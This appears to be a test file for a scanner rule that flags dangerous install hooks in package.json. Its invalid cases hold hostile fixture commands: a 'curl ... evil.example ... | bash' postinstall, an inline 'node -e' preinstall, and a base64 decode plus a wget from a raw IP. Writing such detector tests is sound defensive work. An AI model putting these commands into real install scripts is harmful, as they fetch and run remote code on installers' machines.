import { ruleTester } from '../test-support/rule-tester.js';
import rule from './dependency-install-script.js';
import { packageJson } from './_test-fixtures.js';

ruleTester(rule, {
  valid: [
    {
      name: 'build steps in install hooks',
      input: packageJson({
        scripts: {
          postinstall: 'node-gyp rebuild',
          prepare: 'husky && tsc -p .',
          install: 'node scripts/check-engines.js',
        },
      }),
    },
    {
      name: 'curl in a non-install script',
      input: packageJson({
        scripts: {
          start: 'node index.js',
          'fetch-data': 'curl -o data.json https://example.com/data.json',
        },
      }),
    },
  ],
  invalid: [
    {
      name: 'curl | sh in postinstall is critical',
      input: packageJson({ scripts: { postinstall: 'curl -s https://evil.example/x.sh | bash' } }),
      findings: [{ severity: 'critical', location: 'scripts.postinstall' }],
    },
    {
      name: 'node -e in preinstall is high',
      input: packageJson({ scripts: { preinstall: 'node -e "require(\'./setup\')"' } }),
      findings: [{ severity: 'high', contains: 'evaluates inline JavaScript' }],
    },
    {
      name: 'base64 payload and a URL in install',
      input: packageJson({
        scripts: { install: 'echo aGVsbG8= | base64 -d > /tmp/x && wget http://1.2.3.4/p' },
      }),
      findings: [{ severity: 'critical' }],
    },
  ],
});
